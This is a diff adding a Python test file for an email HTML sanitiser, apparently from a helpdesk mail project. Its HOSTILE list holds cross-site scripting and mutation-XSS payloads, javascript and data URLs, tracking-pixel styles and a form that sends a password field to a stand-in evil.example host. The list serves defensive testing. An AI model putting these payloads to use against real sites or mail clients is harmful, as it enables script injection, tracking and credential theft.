@@ -1,0 +1,139 @@
+"""HTML of strangers: what may be shown, what is read from it, and where the guard stands."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from maildesk.config.schema import Limits
+from maildesk.htmlclean import clean, text_to_html
+from maildesk.htmltables import TAGS
+from maildesk.htmltext import to_text
+
+LIMITS = Limits()
+NO_CIDS: frozenset[str] = frozenset()
+
+HOSTILE = [
+    "<script>alert(1)</script>",
+    "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "<img src=x onerror=alert(1)>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='javascript:1'>x</a>",
+    "<a href=' java\tscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
+    "<a href='vbscript:1'>x</a>",
+    "<svg><style><img src=x onerror=alert(1)></style></svg>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<div style='background:url(https://t.example/p.gif)'>x</div>",
+    "<div style='position:fixed;top:0'>x</div>",
+    "<div style='width:expression(alert(1))'>x</div>",
+    "<div style='list-style:url(https://t.example/p.gif)'>x</div>",
+    "<form action=https://evil.example><input name=password></form>",
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<base href=https://evil.example><meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<img src='https://t.example/pixel.gif' width=1>",
+    "<table background='https://t.example/p.gif'><tr><td>x</table>",
+    "<![><img src=']><img/onerror=alert(1)//'>",
+]
+
+
+class Danger(HTMLParser):
+    """Finds whatever could run, load or send."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.found: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        if tag not in TAGS:
+            self.found.append(tag)
+        for name, value in attrs:
+            if name.startswith("on") or (name == "src" and not (value or "").startswith("cid:")):
+                self.found.append(f"{tag} {name}={value}")
+            if name == "href" and not re.match(r"(https?|mailto|tel|ftp|sip):|#", value or ""):
+                self.found.append(f"{tag} {name}={value}")
+            if name == "style" and re.search(r"url|expression|position|import", value or ""):
+                self.found.append(f"{tag} {name}={value}")
+
+
+@pytest.mark.parametrize("markup", HOSTILE)
+def test_nothing_runs_loads_or_sends(markup: str) -> None:
+    """What is left holds no element, attribute or style that acts."""
+    assert Danger(clean(markup, NO_CIDS, LIMITS)).found == []
+
+
+@given(
+    st.lists(
+        st.sampled_from([*HOSTILE, "<b>", "</b>", "<!--", "-->", "<p", ">", "'", '"', "text", "<style>", "</style>", "<select>", "&lt;script&gt;"]),
+        max_size=8,
+    ).map("".join)
+)
+def test_cleaning_again_changes_nothing(markup: str) -> None:
+    """A fixed point: what a reader makes of the result is the result (V126)."""
+    once = clean(markup, NO_CIDS, LIMITS)
+    assert Danger(once).found == []
+    assert clean(once, NO_CIDS, LIMITS) == once
+
+
+def test_pictures_of_the_mail_stay_and_others_lose_their_source() -> None:
+    """A cid in the set is kept; an unknown cid and a remote picture are not fetched, their words stay."""
+    markup = '<img src="cid:a@x" alt="one"><img src="cid:b@x" alt="two"><img src="https://t.example/p" alt="three">'
+    assert clean(markup, frozenset({"a@x"}), LIMITS) == '<img src="cid:a@x" alt="one"><img alt="two"><img alt="three">'
+
+
+def test_words_and_plain_formatting_stay() -> None:
+    """What agents and customers write arrives as they wrote it."""
+    markup = '<p style="color: red;">Grüße &amp; <b>danke</b> <a href="https://shop.example/?a=1&amp;b=2">shop</a></p><ul><li>one</li></ul>'
+    assert clean(markup, NO_CIDS, LIMITS) == markup
+
+
+@pytest.mark.parametrize(
+    "markup",
+    ["<div>" * 200 + "x", "<b>" * 6000 + "</b>" * 6000, "x" * (LIMITS.html + 1), "<p>x</p>" * 6000],
+    ids=["deep", "tags", "large", "paragraphs"],
+)
+def test_over_the_limits_is_never_handed_to_a_sanitiser(markup: str) -> None:
+    """The guard answers with nothing; the text is still read."""
+    assert clean(markup, NO_CIDS, LIMITS) == ""
+    assert "x" in to_text(markup, LIMITS) or "<b>" in markup
+
+
+@given(st.text())
+def test_plain_text_is_escaped_then_wrapped(text: str) -> None:
+    """Whatever stands in a text, no element but ours comes of it (V127)."""
+    assert set(re.findall(r"<(/?\w+)", text_to_html(text))) <= {"p", "/p", "br"}
+    assert "&lt;script&gt;" in text_to_html("<script>")
+
+
+@given(st.text(alphabet=st.sampled_from("<>/!-'\"=&; abdiv\n[]pt")))
+def test_text_of_any_html_is_read(markup: str) -> None:
+    """No HTML makes the reader raise."""
+    assert isinstance(to_text(markup, LIMITS), str)
+
+
+@pytest.mark.parametrize(
+    ("markup", "text"),
+    [
+        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
+        ("a<br>b<br><br>c", "a\nb\n\nc"),
+        ("<div>a</div><div>b</div>", "a\nb"),
+        ("<ol><li>one<li>two</ol>", "1. one\n2. two"),
+        ("<table><tr><td>Name</td><td>Anna</td></tr><tr><td>Age</td><td>7</td></tr></table>", "Name Anna\nAge 7"),
+        ('<a href="https://a.example">https://a.example</a> <a href="https://b.example">b</a>', "https://a.example b <https://b.example>"),
+        ('new<blockquote type="cite">old<blockquote type="cite">older</blockquote></blockquote>', "new\n\n> old\n>\n>> older"),
+        ("<pre>a\n  b</pre>", "a\n  b"),
+        ("a &lt;b&gt; &amp; c", "a <b> & c"),
+        ("<style>p{}</style><title>no</title><p hidden>no</p><span style='display:none'>no</span>yes", "yes"),
+    ],
+)
+def test_structure_is_kept_in_the_text(markup: str, text: str) -> None:
+    """Paragraphs, breaks, lists, tables, links, quotes and preformatted text read as they are shown."""
+    assert to_text(markup, LIMITS) == text
